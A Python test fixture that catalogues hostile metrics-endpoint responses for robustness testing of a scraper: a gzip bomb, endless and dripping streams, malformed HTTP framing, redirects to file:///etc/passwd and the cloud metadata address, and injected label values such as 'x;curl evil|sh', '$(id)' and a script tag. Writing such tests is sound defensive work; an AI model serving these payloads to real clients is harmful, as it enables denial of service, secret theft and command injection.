"""What hostile metrics endpoints answer: raw bytes, or a script that holds the connection."""

import asyncio
import gzip
import zlib
from collections.abc import Awaitable, Callable, Iterator
from itertools import count
from typing import NamedTuple

from tests.hostile.pages import backslash_page, endless_traces, thousand_long_names
from tests.servers.metrics_pages import ok

MIB = 1 << 20
OPENMETRICS = b"Content-Type: application/openmetrics-text; version=1.0.0\r\n"
CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
HEAD = b"HTTP/1.1 200 OK\r\n\r\n"
LINE = b"a 1\n"
SOUND = (
    b"process_resident_memory_bytes 1e8\n"
    b"process_start_time_seconds 1700000000\n"
    b'agentweave_circuit_breaker_state{callee="r"} 0\n'
)

Hold = Callable[[asyncio.StreamWriter], Awaitable[None]]


class Attack(NamedTuple):
    """One way to harm whoever asks."""

    what: str  # for docs/reliability.md
    answer: bytes | Hold
    closes: bool = False  # the server hangs up after its answer


def _for_ever(first: bytes, again: bytes, pause: float = 0.0) -> Hold:
    async def hold(writer: asyncio.StreamWriter) -> None:
        writer.write(first)
        while True:
            writer.write(again)
            await writer.drain()
            await asyncio.sleep(pause)

    return hold


def _then_mute(first: bytes) -> Hold:
    async def hold(writer: asyncio.StreamWriter) -> None:
        writer.write(first)
        await writer.drain()
        await asyncio.sleep(60)

    return hold


def _new_names() -> Hold:
    looks = count()

    async def hold(writer: asyncio.StreamWriter) -> None:
        look = next(looks)
        lines = (
            b'agentweave_circuit_breaker_state{callee="x%d-%d-%b"} %d\n' % (look, number, b"y" * 200, number % 3)
            for number in range(950)
        )
        writer.write(ok(SOUND + b"".join(lines)))
        await writer.drain()

    return hold


def _values(value: bytes) -> bytes:
    names = (
        b"process_resident_memory_bytes",
        b'agentweave_circuit_breaker_state{callee="a"}',
        b"process_start_time_seconds",
        b'agentweave_connection_pool_active{pool="p"}',
        b'agentweave_requests_total{status="success"}',
        b'agentweave_requests_total{status="error"}',
        b"process_cpu_seconds_total",
        b"agentweave_request_duration_seconds_count",
    )
    return ok(b"".join(b"%b %b\n" % (name, value) for name in names))


def _callees(*names: bytes) -> bytes:
    return ok(SOUND + b"".join(b'agentweave_circuit_breaker_state{callee="%b"} 1\n' % name for name in names))


INJECTIONS = (
    b'\\"><script>alert(1)</script>',
    b"x;curl evil|sh",
    b"$(id)",
    b"a\\nb",
    b'{{ .x }}{{ query \\"up\\" }}',
    b"a\xe2\x80\xaeb",
    b"--help",
)

_REDIRECT = b"HTTP/1.1 302 Found\r\nLocation: %b\r\nContent-Length: 0\r\n\r\n"
_SIZED = b"HTTP/1.1 200 OK\r\nContent-Length: %b\r\n\r\n" + SOUND


def _encoded(name: bytes, body: bytes) -> bytes:
    return ok(body, b"Content-Encoding: %b\r\n" % name)


def attacks() -> Iterator[Attack]:
    """All of them; some are 8 MiB, so they are made when they are asked for."""
    yield from _encodings()
    yield from _endless()
    yield from _pages()
    yield from _odd_values()
    yield from _protocols()


def _encodings() -> Iterator[Attack]:
    yield Attack("a gzip bomb of 80 MB", _encoded(b"gzip", gzip.compress(LINE * 20_000_000, 1)[: 7 * MIB]))
    yield Attack("deflate that was not asked for", _encoded(b"deflate", zlib.compress(LINE * 10**6)))
    yield Attack("brotli that was not asked for", _encoded(b"br", b"\x8b\x03\x80"))
    yield Attack("zstd that was not asked for", _encoded(b"zstd", b"(\xb5/\xfd"))
    gzipped_chunks = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
    yield Attack("gzip as a transfer encoding", gzipped_chunks)


def _endless() -> Iterator[Attack]:
    yield Attack("headers without an end", _for_ever(b"HTTP/1.1 200 OK\r\n", b"X-Much: %b\r\n" % (b"a" * 500)))
    yield Attack("headers that drip", _for_ever(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n", 0.3))
    yield Attack("interim answers without an end", _for_ever(b"", b"HTTP/1.1 103 Early Hints\r\nLink: a\r\n\r\n" * 50))
    yield Attack("8 MiB, and then nothing", _then_mute(HEAD + LINE * (2 * MIB - 10_000)))
    yield Attack("a page that drips", _for_ever(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n", LINE, 0.1))
    yield Attack("chunks of one byte without an end", _for_ever(CHUNKED, b"1\r\na\r\n" * 2000))
    yield Attack("a chunk extension without an end", _for_ever(CHUNKED + b"5;", b"x" * 65536))
    yield Attack("trailers without an end", _for_ever(CHUNKED + b"4\r\na 1\n\r\n0\r\n", b"X: %b\r\n" % (b"y" * 1000)))
    yield Attack("a chunk of 16 EiB", _for_ever(CHUNKED + b"FFFFFFFFFFFFFFFF\r\n", b"x" * 65536))
    yield Attack("a page without an end", _for_ever(HEAD, LINE * 16384))
    yield Attack("no answer at all", _then_mute(b""))
    yield Attack("half an answer", b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nabc", closes=True)


def _pages() -> Iterator[Attack]:
    yield Attack("950 new callees at each look", _new_names())
    yield Attack("999 callees and 999 pools with names of 3.9 kB", ok(thousand_long_names()))
    many = b"m{%b} 1\n" % b",".join(b'l%d="v"' % number for number in range(700_000))
    yield Attack("a line of 700,000 labels", ok((SOUND + many)[: 8 * MIB - 1]))
    yield Attack("a label value of 1 MiB", _callees(b"x" * MIB))
    yield Attack("a legal page of 8 MiB of backslashes", ok(backslash_page()))
    yield Attack("8 MiB of two short names in turn", ok(b"a 1\nb 1\n" * (MIB - 10)))
    yield Attack("8 MiB of traces without an end", ok(endless_traces(), OPENMETRICS))
    exemplar = b'process_resident_memory_bytes 1e8 # {trace_id="x"} 1 1\nprocess_start_time_seconds 1\n# EOF\n'
    yield Attack("an exemplar on a gauge", ok(exemplar, OPENMETRICS))
    quoted = b'{"process_resident_memory_bytes"} 1e8\n{"agentweave_circuit_breaker_state","callee"="\xc3\xa9"} 1\n'
    yield Attack("quoted names", ok(quoted))


def _odd_values() -> Iterator[Attack]:
    for value in (b"NaN", b"+Inf", b"-Inf", b"-0", b"1e308", b"1.7e308", b"5e-324", b"1e999", b"9" * 400):
        yield Attack(f"every value is {value.decode() if len(value) < 9 else 'a number of 400 digits'}", _values(value))
    stamped = b"process_resident_memory_bytes 1e8 99999999999999999999999999\nprocess_start_time_seconds 1 -5\n"
    yield Attack("timestamps of the year 3e15", ok(stamped))
    twice = b"process_resident_memory_bytes 1e8\nprocess_resident_memory_bytes 2e8\nprocess_start_time_seconds 1\n"
    yield Attack("series that stand twice", ok(twice))


def _protocols() -> Iterator[Attack]:
    yield Attack("HTTP/1.0", b"HTTP/1.0 200 OK\r\n\r\n" + SOUND, closes=True)
    yield Attack("HTTP/0.9", SOUND, closes=True)
    yield Attack("HTTP/2 unasked", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", closes=True)
    switching = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n"
    yield Attack("an upgrade unasked", switching, closes=True)
    yield Attack("a redirect to a file", _REDIRECT % b"file:///etc/passwd")
    yield Attack("a redirect to the cloud's metadata", _REDIRECT % b"http://169.254.169.254/latest/")
    yield Attack("a redirect to itself", _REDIRECT % b"?")
    yield Attack("a length of 24 digits", _SIZED % (b"9" * 24))
    yield Attack("a negative length", _SIZED % b"-1")
    yield Attack("two lengths", _SIZED % b"5\r\nContent-Length: 500")
    both = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n4\r\na 1\n\r\n0\r\n\r\n"
    yield Attack("a length and chunks", both)
    yield Attack("a length that is too short", _SIZED % b"30", closes=True)
    yield Attack("status 999", b"HTTP/1.1 999 X\r\nContent-Length: 0\r\n\r\n")
    yield Attack("status 204", b"HTTP/1.1 204 X\r\n\r\n")
    yield Attack("an empty page", ok(b""))
    yield Attack("100,000 zero bytes", ok(b"\0" * 100_000))
    yield Attack("HTML", ok(b"<html><script>alert(1)</script>"))
    yield Attack("OpenMetrics without its end", ok(SOUND, OPENMETRICS))
    yield Attack("names that are scripts, commands and templates", _callees(*INJECTIONS))
